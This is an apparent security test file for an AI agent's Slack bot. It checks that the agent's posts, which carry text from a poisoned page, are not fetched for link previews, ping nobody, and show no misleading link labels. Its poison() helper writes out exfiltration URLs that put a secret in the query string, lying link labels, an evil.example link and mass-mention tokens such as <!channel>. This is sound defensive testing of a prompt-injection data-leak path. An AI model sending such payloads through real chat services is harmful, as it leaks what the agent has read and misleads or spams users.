"""What the agent writes into the thread is fetched, rings people, or leads elsewhere than it says.

Asset: what the agent has read; the attention and the trust of a channel. Attacker: a poisoned page, the words
of which the agent repeats. Path: links in posts, which chat services fetch for a preview before anybody has
pressed them; mentions; labels that lie. Control: posts go out without previews, every text is escaped, a
label that reads like another address is followed by where it leads, and our own pages tell strangers nothing.
"""

from __future__ import annotations

import re
from collections.abc import AsyncIterator, Iterable, Iterator
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass, field
from urllib.parse import urlsplit

import httpx
import yaml
from aiohttp import web

from bot.messages import Place
from tests.attacks.conftest import OpenHouse
from tests.attacks.frame import Control, refuted
from tests.bot.slack_side import slack_platform
from tests.bot.test_platform_contract import Notebook, running
from tests.bot.test_slack_blocks import PING, mrkdwn_texts
from tests.emulators.model.turns import tool
from tests.emulators.slack.emulator import SlackEmulator
from tests.emulators.slack.limits import elements_of
from tests.emulators.slack.web_api import ApiCall
from tests.emulators.slack.workspace import TEAM_ID
from tests.journeys.house import AGENT
from tests.journeys.steps import FIX
from tests.provision.places import CHECKOUT

CONTROLS = (
    Control(
        "bot/platforms/slack/workspace.py",
        (('{"unfurl_links": False, "unfurl_media": False}', "{}"),),
    ),
    Control(
        "bot/platforms/slack/mrkdwn.py",
        (
            ('text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")', "text"),
            ("{_leads_to(address, label)}", ""),
        ),
    ),
)
PROOF = "test_what_the_agent_writes"

SECRET = "the-customers-of-acme"
ADDRESS = re.compile(r"https?://[^\s|>)*\"`]+")
MASKED = re.compile(r"<(https?://[^|>]+)\|([^>]*)>(?: \(([^)]*)\))?")
HOST = re.compile(r"(?:[\w-]+\.)+[a-z]{2,}")
SLACKBOT = {"User-Agent": "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)"}


@dataclass
class Sink:
    """The attacker's web server, and the addresses it was asked for."""

    url: str = ""
    heard: list[str] = field(default_factory=list)

    async def listen(self, request: web.Request) -> web.Response:
        """Note the address."""
        self.heard.append(request.path_qs)
        return web.Response(text="<title>a picture</title>", content_type="text/html")

    def poison(self, place: str) -> str:
        """Everything that the attacker wants to have said, in one text; `place` tells where it got out."""
        leak = f"{self.url}/{place}?{SECRET}"
        return (
            f"See {leak} and <{leak}> and <{leak}|github.com> and [our page](https://github.com) "
            f"![x]({leak}.png) [https://github.com/acme]({leak}) [github.com](https://github.com@{leak[7:]}) "
            "[**github.com**](https://evil.example) <!channel> <!here|here> <!everyone> @channel @here "
            "<@U00000001> <@W1|ada> <!subteam^S1|@team> <#C1|general> &lt;!channel&gt; \\<!channel\\> "
            "`<!channel>` <!date^0^{date}^https://evil.example|now>"
        )


@asynccontextmanager
async def sink() -> AsyncIterator[Sink]:
    """The server."""
    made = Sink()
    application = web.Application()
    application.router.add_get("/{path:.*}", made.listen)
    runner = web.AppRunner(application, access_log=None)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    made.url = f"http://127.0.0.1:{runner.addresses[0][1]}"
    try:
        yield made
    finally:
        await runner.cleanup()


async def preview(calls: Iterable[ApiCall]) -> None:
    """What Slack does with posts: it fetches the addresses in them, unless it was told not to.

    Source: https://docs.slack.dev/messaging/unfurling-links-in-messages
    """
    async with httpx.AsyncClient(headers=SLACKBOT, timeout=60) as slack:
        for call in calls:
            told = (call.args.get("unfurl_links"), call.args.get("unfurl_media"))
            if call.method != "chat.postMessage" or all(str(one).lower() in ("false", "0") for one in told):
                continue
            for text in _texts(call):
                for address in ADDRESS.findall(text):
                    if urlsplit(address).hostname == "127.0.0.1":
                        with suppress(httpx.ConnectError):  # the sink speaks no TLS
                            await slack.get(address)


def _texts(call: ApiCall) -> Iterator[str]:
    """All of a message in which Slack reads marks."""
    yield str(call.args.get("text", ""))
    yield from mrkdwn_texts(call.args.get("blocks", []))


def examine(calls: Iterable[ApiCall]) -> int:
    """How many texts there were; none of them rings anybody or lies about where a link leads."""
    seen = 0
    for call in calls:
        assert not {"link_names", "parse", "attachments", "markdown_text"} & call.args.keys()
        for text in _texts(call):
            seen += 1
            ping = PING.search(text)
            refuted(ping is None, f"{call.method} rings people: {text[:200]}")
            for address, label, said in MASKED.findall(text):
                host = urlsplit(address.replace("&amp;", "&")).hostname
                others = set(HOST.findall(label.lower())) - {host}
                refuted(not others or said == host, f"a label says {label!r} and leads to {address}")
    return seen


async def test_what_the_agent_writes_is_not_fetched_and_rings_nobody(open_house: OpenHouse) -> None:
    async with sink() as attacker, open_house() as house:
        ada = await house.member("Ada")
        said = attacker.poison
        question = tool("ask_user", question=said("question"), options=[said("option")[:70], "@channel"])
        propose = tool("open_pull_request", title=said("title")[:80], body=said("body"), draft=False)
        house.model.script(
            AGENT,
            tool("plan", items=[{"text": said("plan"), "status": "in_progress"}]),
            tool("post_update", text=said("update")[:1_000]),
            tool("bash", command=f"echo '{said('command').replace(chr(39), '')}' | cat >/dev/null"),
            FIX,
            question,
            propose,
            tool("finish", summary=f"It is done. {said('summary')}", evidence=said("evidence")),
        )
        thread = await ada.asks("round half a cent up <!channel>")
        await thread.reaches("awaiting_answer")
        await ada.replies(thread, "the first")
        await thread.reaches("awaiting_approval")
        asked = (await thread.is_told())[-1]
        await ada.reacts("white_check_mark", asked)
        await thread.hears("It is done.")
        posts = await thread.is_told()
        calls = [call for call in house.slack.calls if call.method.startswith("chat.")]
        for place in ("question", "update", "summary"):
            assert any(f"/{place}?" in str(call.args) for call in calls), f"the agent's {place} was posted"
        await preview(calls)
        refuted(attacker.heard == [], f"Slack fetched what the agent wrote: {attacker.heard[:1]}")
        assert examine(calls) > len(posts)

        # Our own page's links: a preview of them shows the sign-in page, and nothing of the session.
        links = {
            str(element["url"]) for post in posts for element in elements_of(post.blocks) if "url" in element
        }
        own = {link for link in links if link.startswith(house.url)}
        assert own
        async with httpx.AsyncClient(headers=SLACKBOT, follow_redirects=True, timeout=60) as slack:
            for link in own:
                shown = await slack.get(link)
                refuted("half a cent" not in shown.text, "our page tells strangers of a session")
                assert shown.url.path == "/sign-in"


async def test_what_one_person_is_told_is_not_fetched_either() -> None:
    async with sink() as attacker, SlackEmulator(allow_unread=True) as slack:
        platform = slack_platform(slack)
        async with running(platform, Notebook()):
            await platform.ready()
            ada, absent = slack.person("Ada"), slack.person("Absent")
            first = await ada.say(slack.channel("general"), "please help")
            place = Place(TEAM_ID, first.channel.id, first.ts)
            for person in (ada, absent):
                await platform.tell(place, person.id, attacker.poison("aside"))
        calls = [call for call in slack.calls if call.method.startswith("chat.post")]
        assert [call.method for call in calls if call.error is None] == [
            "chat.postEphemeral",
            "chat.postMessage",
        ]
        await preview(call for call in calls if call.error is None)
        refuted(attacker.heard == [], f"Slack fetched what one person was told: {attacker.heard[:1]}")
        examine(calls)


def test_the_app_asks_slack_for_no_links_but_those_to_its_own_pages() -> None:
    manifest = yaml.safe_load((CHECKOUT / "deploy" / "slack_manifest.yaml").read_text())
    scopes = set(manifest["oauth_config"]["scopes"]["bot"])
    links = {"links:read", "links:write", "links.embed:write"}
    assert scopes & links == {"links:read", "links:write"}
    # Which links Slack tells of: those to the address that an admin fills in, that of the companion pages.
    assert "unfurl_domains" not in manifest["features"]
